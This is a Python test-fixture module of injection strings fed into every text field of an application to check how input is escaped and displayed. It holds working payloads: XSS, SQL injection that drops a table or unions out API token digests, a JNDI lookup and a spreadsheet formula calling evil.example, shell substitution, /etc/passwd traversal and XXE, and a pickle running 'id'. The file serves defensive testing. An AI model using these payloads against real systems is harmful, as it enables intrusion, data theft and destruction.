"""Texts that are programs elsewhere: sent into every text field, and looked for wherever they are shown
(tests/psq_geo/test_payloads.py, tests/browser/test_payloads.py)."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

# What a text is to some program that it might meet on its way.
TEXTS: Final[dict[str, str]] = {
    "script": "<script>window.hit=1</script>",
    "script behind its end": "</script><script>window.hit=1</script>",
    "image": "<img src=x onerror=window.hit=1>",
    "image out of an attribute": "\"><img src=x onerror='window.hit=1'>",
    "out of a quoted attribute": "' autofocus onfocus=window.hit=1 x='",
    "drawing": "<svg onload=window.hit=1>",
    "frame": "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "style": "<style>@import url(//evil.example/x)</style>",
    "base": "<base href=//evil.example/>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "textarea": "</textarea><script>window.hit=1</script>",
    "title": "</title><script>window.hit=1</script>",
    "comment": "--><script>window.hit=1</script><!--",
    "character data": "]]><script>window.hit=1</script>",
    "template literal": "${window.hit=1}`;window.hit=1;`",
    "script string": "';window.hit=1;//\";window.hit=1;//",
    "line separators": "a\u2028window.hit=1\u2029b",
    "entities": "&lt;script&gt;window.hit=1&lt;/script&gt;&#x3c;",
    "address of a script": "javascript:window.hit=1",
    "template": "{{ 7|add:'42' }}{% debug %}{{ settings.SECRET_KEY }}",
    "other template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}*{7*7}",
    "template of Python": "{0.__class__.__mro__}{self}%(password)s%s%n%x",
    "SQL": "' OR '1'='1' --",
    "SQL of several statements": "'; DROP TABLE incidents_incident; SELECT pg_sleep(10); --",
    "SQL union": "' UNION SELECT digest FROM accounts_apitoken --",
    "SQL in dollars": "$$; SELECT pg_sleep(10); $$",
    "LIKE": "%_%\\_[a-z]%",
    "regular expression": "(a+)+$(((((((((((",
    "a long run for one": "a" * 900 + "!",
    "logging": "${jndi:ldap://evil.example/a}",
    "shell": "`id`; $(id) | id && id > /tmp/x",
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\windows\\win.ini",
    "header": "x\r\nSet-Cookie: hit=1\r\n\r\n<script>window.hit=1</script>",
    "mail": "x\nBcc: everybody@evil.example\n\nhit",
    "formula": '=HYPERLINK("https://evil.example/?"&A1)',
    "formula behind a blank": " \t+cmd|' /C calc'!A0",
    "formula, wide": "\uff1d1+1",
    "XML": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "GeoJSON": '{"type":"Point","coordinates":[0,0],"crs":{"type":"link","properties":{"href":"http://a/"}}}',
    "WKT": "SRID=2154;POINT(944000 6390000)",
    "JSON": '{"$ne": null}',
    "pickle": "cos\nsystem\n(S'id'\ntR.",
    "right to left": "\u202egnp.exe\u2066\u2069",
    "piled up": "e" + "\u0301" * 200,
    "faces": "👩‍👩‍👧‍👦" * 20,
    "invisible": "\u200b\u200d\ufeff\u2060",
    "controls": "\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f\x85",
    "null": "a\x00b",
    "not a character": "\ufffe\uffff\U0010ffff",
    "capitals that grow": "ŉßﬃİ" * 100,
    "digits": "9" * 5000,
    "long": "x" * 100_000,
}


def shown() -> Iterator[tuple[str, str]]:
    """The texts that a person could have typed and a page shows: not those that are too long or no text at all."""
    for name, text in TEXTS.items():
        if len(text) < 1000 and "\x00" not in text:
            yield name, text
